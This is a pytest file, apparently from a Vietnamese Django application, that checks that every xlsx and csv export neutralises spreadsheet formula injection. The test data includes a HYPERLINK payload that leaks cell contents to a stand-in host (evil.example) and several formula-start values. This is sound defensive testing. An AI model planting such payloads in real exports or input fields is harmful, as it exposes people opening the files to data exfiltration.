"""Every spreadsheet export that writes what people typed goes through
chuyende.core.sheets.safe_cell: with members, units, sessions and templates named like formulas
('=HYPERLINK(…)', '+1+1', '@SUM(A1)', a tab or a CR first), no cell of any .xlsx or .csv the
application writes starts a formula, and no cell is a formula.

`test_every_spreadsheet_writer_is_covered` fails when a module starts writing spreadsheets
without being added here."""

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from chuyende.core.sheets import FORMULA_STARTS
from chuyende.org.models import Member, Unit
from chuyende.pledges.models import PledgeSection, PledgeTemplate
from chuyende.study.choices import AttendanceSource
from chuyende.study.models import Attendance, StudySession
from chuyende.transfer.models import ExportJob, ImportJob

PACKAGE = Path(__file__).resolve().parent.parent / "chuyende"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
OTHERS = ("+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1")

# Module → the test below that writes its spreadsheets with hostile text.
COVERED = {
    "chuyende/core/sheets.py": "test_the_import_error_sheet",
    "chuyende/transfer/exports.py": "test_member_and_unit_list_exports",
    "chuyende/transfer/services.py": "test_the_import_error_sheet",  # and the fixed template
    "chuyende/study/exports.py": "test_the_participants_list",
    "chuyende/reports/exports.py": "test_the_figures_sheet",
    "chuyende/pledges/exports.py": "test_the_pledge_import_template",
}
WRITERS = re.compile(r"\bWorkbook\(|csv\.writer\(|\.to_excel\(|xlsxwriter")


def _safe_cells(rows) -> list[str]:
    """Every text cell; fails on one that starts a formula."""
    texts = []
    for row in rows:
        for value in row:
            if isinstance(value, str):
                assert not value.startswith(FORMULA_STARTS), repr(value)
                texts.append(value)
    return texts


def _xlsx_texts(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
        texts += _safe_cells(sheet.iter_rows(values_only=True))
    return texts


def _csv_texts(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return _safe_cells(csv.reader(io.StringIO(text, newline="")))


def _hostile_seen(texts) -> bool:
    """The hostile text did reach the file (neutralised), or the test would prove nothing."""
    return any("HYPERLINK" in t for t in texts)


@pytest.fixture
def hostile(world):
    world.an.full_name = HOSTILE
    world.an.job_title = OTHERS[0]
    world.an.ethnicity = OTHERS[2]
    world.an.refresh_derived()
    world.an.save()
    Member.objects.filter(pk=world.binh.pk).update(full_name=OTHERS[3], job_title=OTHERS[4])
    Unit.objects.filter(pk=world.a2.pk).update(name=HOSTILE, short_name=OTHERS[1])
    world.a2.refresh_from_db()
    return world


def _content(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["members", "units"])
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_member_and_unit_list_exports(client, hostile, kind, fmt):
    client.force_login(hostile.bob)
    client.post(
        reverse("transfer:export_start"),
        {"kind": kind, "format": fmt, "full": "1", "reason": "Kiểm tra công thức"},
    )
    job = ExportJob.objects.get()
    assert job.status == "done", job.message
    content = _content(client.get(reverse("transfer:export_file", args=[job.pk])))
    texts = _xlsx_texts(content) if fmt == "xlsx" else _csv_texts(content)
    assert _hostile_seen(texts)


@pytest.mark.django_db
def test_the_import_error_sheet(client, hostile):
    """A CSV keeps formula-like text as text: the error sheet copies it back, neutralised."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from chuyende.transfer.tests.helpers import HEADER

    rows = [
        HEADER,
        [1, HOSTILE, "Nữ", "02/03/1985", "=1+1", "", "", "BMT-001"],
        [2, "@SUM(A1)", "Nam", "+31/02/1985", "", "", "", "BMT-001"],
        [3, "Trần Văn Ba", "\t=1", "02/03/1985", "", "", "", "-XYZ"],
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    upload = SimpleUploadedFile("doan-vien.csv", buffer.getvalue().encode("utf-8"))
    client.force_login(hostile.bob)
    client.post(
        reverse("transfer:import_list"), {"kind": "members", "unit": hostile.a.pk, "file": upload}
    )
    job = ImportJob.objects.get()
    data = {name: str(index) for name, index in job.mapping.items()}
    client.post(reverse("transfer:import_mapping", args=[job.pk]), data)
    job.refresh_from_db()
    assert job.errors, "the sheet should have row errors"
    texts = _xlsx_texts(client.get(reverse("transfer:import_errors", args=[job.pk])).content)
    assert _hostile_seen(texts)
    # the empty template has fixed headers only, and is safe as well
    _xlsx_texts(client.get(reverse("transfer:template") + "?kind=members").content)


@pytest.mark.django_db
def test_the_participants_list(client, hostile):
    session = StudySession.objects.create(
        unit=hostile.a1,
        title=HOSTILE,
        place=OTHERS[2],
        date=datetime.date(2024, 3, 15),
        code="FORMUL",
        expected_mode="number",
        expected_number=10,
        expected_count=10,
    )
    Attendance.objects.bulk_create(
        Attendance(session=session, member=m, source=AttendanceSource.REGISTER)
        for m in (hostile.an, hostile.binh)
    )
    client.force_login(hostile.carol)
    response = client.get(reverse("study:participants_xlsx", args=[session.pk]))
    assert response.status_code == 200
    assert _hostile_seen(_xlsx_texts(response.content))


@pytest.mark.django_db
def test_the_figures_sheet(hostile):
    from chuyende.reports.exports import figures_xlsx

    indicator = SimpleNamespace(label=OTHERS[0], unit_label="@người", unit_of_measure="x")
    rollup = {
        "indicators": [indicator],
        "rows": [
            {"unit": hostile.a2, "cells": [{"sent": Decimal("3"), "counted": None}]},
            {"unit": hostile.a1, "cells": [{"sent": None, "counted": Decimal("-2")}]},
        ],
    }
    form = SimpleNamespace(plan=SimpleNamespace(title=HOSTILE))
    period = SimpleNamespace(code="2024S1", name="2024S1")
    content = figures_xlsx(form=form, period=period, parent=hostile.a2, rollup=rollup)
    assert _hostile_seen(_xlsx_texts(content))


@pytest.mark.django_db
def test_the_pledge_import_template(client, hostile):
    template = PledgeTemplate.objects.create(
        unit=hostile.province,
        year=timezone.localdate().year,
        title=OTHERS[1],
        topic="Văn hóa",
        rating_levels=[
            {"code": "excellent", "label": 'Xuất sắc",HYPERLINK("x'},
            {"code": "good", "label": "Tốt"},
        ],
    )
    PledgeSection.objects.create(
        template=template, code="politics", title=HOSTILE, guidance="+1", min_items=1, position=1
    )
    client.force_login(hostile.carol)
    response = client.get(reverse("pledges:import_template"))
    assert response.status_code == 200, response.content[:300]
    assert _hostile_seen(_xlsx_texts(response.content))
    workbook = load_workbook(io.BytesIO(response.content))
    for validation in workbook.active.data_validations.dataValidation:
        inner = validation.formula1.strip('"')
        assert '"' not in inner  # a quote in a label cannot end the list's string


def test_every_spreadsheet_writer_is_covered():
    writers = set()
    for path in PACKAGE.rglob("*.py"):
        relative = path.relative_to(PACKAGE.parent).as_posix()
        if "/tests/" in relative or "/migrations/" in relative:
            continue
        if WRITERS.search(path.read_text(encoding="utf-8")):
            writers.add(relative)
    missing = writers - set(COVERED)
    assert not missing, f"spreadsheet writers without a formula test here: {sorted(missing)}"


def test_only_one_safe_cell_exists():
    """Every export imports chuyende.core.sheets.safe_cell; no module keeps its own copy."""
    copies = []
    for path in PACKAGE.rglob("*.py"):
        relative = path.relative_to(PACKAGE.parent).as_posix()
        if relative == "chuyende/core/sheets.py" or "/tests/" in relative:
            continue
        if re.search(r"^def safe_cell\(", path.read_text(encoding="utf-8"), re.MULTILINE):
            copies.append(relative)
    assert not copies, copies


def test_safe_cell_neutralises_every_formula_start():
    from chuyende.core.sheets import safe_cell

    for start in FORMULA_STARTS:
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Nguyễn Văn An") == "Nguyễn Văn An"
    assert safe_cell(12) == 12 and safe_cell(None) is None
